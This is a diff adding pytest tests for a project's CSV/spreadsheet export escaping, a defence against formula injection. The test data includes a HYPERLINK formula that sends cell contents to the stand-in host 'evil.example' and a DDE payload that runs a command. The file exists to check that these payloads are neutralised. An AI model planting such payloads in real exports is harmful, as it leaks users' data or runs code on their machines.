@@ -1,0 +1,54 @@
+"""Exports hand spreadsheets text, never a formula to run (OWASP "CSV injection")."""
+
+import io
+import re
+from pathlib import Path
+
+import pytest
+
+from wegweiser.core.spreadsheet import spreadsheet_csv_writer, spreadsheet_safe
+
+PACKAGE_DIR = Path(__file__).resolve().parents[2]
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ('=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("beratung", "beratung"),
+        ("a=b", "a=b"),
+        ("", ""),
+        (-3, -3),
+        (None, None),
+    ],
+)
+def test_text_that_starts_like_a_formula_gets_a_leading_quote(value, expected):
+    assert spreadsheet_safe(value) == expected
+
+
+def test_the_csv_writer_escapes_every_cell():
+    out = io.StringIO()
+    writer = spreadsheet_csv_writer(out)
+
+    writer.writerow(["=1+1", "ok", 7])
+    writer.writerows([["@x"], ["-y"]])
+
+    assert out.getvalue().splitlines() == ["'=1+1,ok,7", "'@x", "'-y"]
+
+
+def test_every_export_writes_through_the_spreadsheet_helper():
+    """A new CSV or XLSX export that calls csv.writer or openpyxl itself fails here: use core/spreadsheet.py."""
+    helper = PACKAGE_DIR / "core" / "spreadsheet.py"
+    pattern = re.compile(r"csv\.(writer|DictWriter)\(|openpyxl|xlsxwriter")
+    offenders = [
+        str(path.relative_to(PACKAGE_DIR))
+        for path in PACKAGE_DIR.rglob("*.py")
+        if path != helper and "tests" not in path.parts and pattern.search(path.read_text(encoding="utf-8"))
+    ]
+
+    assert offenders == []
